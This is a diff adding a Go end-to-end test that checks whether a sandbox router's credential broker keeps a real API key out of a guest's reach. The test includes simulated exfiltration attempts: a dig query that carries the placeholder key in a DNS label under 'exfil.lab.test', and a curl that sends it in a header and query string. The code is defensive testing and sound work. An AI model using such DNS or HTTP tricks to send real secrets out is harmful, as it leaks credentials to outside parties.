@@ -1,0 +1,88 @@
+//go:build linux
+
+package e2e
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/agentcage/router/internal/lab"
+)
+
+const (
+	credPlaceholder = "sk-router-placeholder-e2e-0f1e2d3c"
+	credRealValue   = "sk-REAL-host-key-9a8b7c6d5e4f"
+)
+
+// TestCredentialBroker: the guest holds only a placeholder. Its request through the model
+// forward reaches the model server with the real value; the same placeholder in a DNS label
+// trips the canary (refused, counted, logged once) and reaches no resolver; sent to the
+// internet it never carries the real value. No log, status or flow log of the run holds the
+// real value.
+func TestCredentialBroker(t *testing.T) {
+	flows := filepath.Join(t.TempDir(), "flows.jsonl")
+	extra := `
+[log]
+flows = "` + flows + `"
+
+[[credential]]
+name = "model-key"
+placeholder = "` + credPlaceholder + `"
+value_env = "ROUTER_E2E_MODEL_KEY"
+forward = "model"
+`
+	t.Setenv("ROUTER_E2E_MODEL_KEY", credRealValue)
+	s := newScene(t, config(lab.GoSocksAddr, "")+extra)
+	g := s.lab.Guest()
+
+	// Through the forward: the model server gets the real value.
+	out, code := s.curl(g, "http://10.0.2.2:47831/v1/models", "-H", "Authorization: Bearer "+credPlaceholder)
+	if code != 0 || !strings.Contains(out, lab.ModelID) {
+		t.Fatalf("the guest's model call: exit %d, %q", code, out)
+	}
+	var seen []string
+	for _, r := range s.lab.ModelRequests() {
+		seen = append(seen, r.Auth)
+	}
+	if len(seen) != 1 || seen[0] != "Bearer "+credRealValue {
+		t.Fatalf("the model server saw Authorization %q, want the real value once", seen)
+	}
+
+	// In a DNS label: refused with EDE 18, counted; the lab's DNS server never asked.
+	out, _ = run(s.ctx, g, "dig", "+time=2", "+tries=1", "@"+lab.ServiceAddr, "TXT", strings.ToUpper(credPlaceholder)+".exfil.lab.test")
+	if !strings.Contains(out, "status: NXDOMAIN") || !strings.Contains(out, "EDE: 18 (Prohibited)") {
+		t.Errorf("a DNS label with the placeholder: want NXDOMAIN with EDE 18:\n%s", out)
+	}
+	for _, q := range s.lab.DNSLog() {
+		if strings.Contains(strings.ToLower(q.Name), "placeholder") {
+			t.Errorf("the placeholder's name reached the DNS server: %v", q)
+		}
+	}
+
+	// To the internet through the proxy, in a header and a query: the real value never
+	// leaves (the guest has only the placeholder).
+	s.curl(g, "http://"+lab.EchoName+"/log?token="+credPlaceholder, "-H", "Authorization: Bearer "+credPlaceholder)
+	for _, r := range s.lab.HTTPLog() {
+		if strings.Contains(r.Auth+r.Query, credRealValue) {
+			t.Errorf("the echo server saw the real value: %+v", r)
+		}
+	}
+
+	st := s.status()
+	if n, _ := refusalCount(st, "canary"); n < 1 {
+		t.Errorf("canaries counted: %d, want the DNS label at least", n)
+	}
+	if n := strings.Count(s.log(), "canary:"); n != 1 {
+		t.Errorf("canary lines in the router's log: %d, want 1", n)
+	}
+	statusJSON, _ := s.routerCmd("status", "--json", "--config", s.cfg)
+	flowLog, _ := os.ReadFile(flows)
+	for what, text := range map[string]string{"the router's log": s.log(), "status": statusJSON, "the flow log": string(flowLog)} {
+		if strings.Contains(text, credRealValue) {
+			t.Errorf("%s holds the real value", what)
+		}
+	}
+	s.wantNoLeak("credential broker")
+}
